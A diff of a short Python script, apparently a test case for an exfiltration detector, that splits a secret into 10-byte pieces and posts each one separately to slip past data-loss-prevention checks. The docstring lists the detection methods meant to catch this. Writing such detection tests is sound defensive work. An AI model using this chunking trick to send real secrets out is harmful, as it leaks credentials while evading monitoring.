@@ -1,14 +1,14 @@
 #!/usr/bin/python3
 """
-Trick: Reads the token and sends its secret in four pieces over four connections.
+Trick: Sends a secret in four pieces over four connections, none long enough to be recognised.
 Known from: chunked exfiltration; data loss prevention looks at one message at a time.
-First: read-then-sent: a reader of a planted file sends at least as many bytes
-Second: fanotify on the planted inode; the sinkhole's record of the streams
+First: the sinkhole's record of the streams, joined by destination
+Second: read-then-sent, where the value came from a file
 """
 
-from way_out import post, token
+from way_out import post, secret
 
-value = token().rsplit(b"=", 1)[1].strip()
+value = secret()
 for start in range(0, len(value), 10):
     post(b"part=" + value[start : start + 10])
 print("performed")
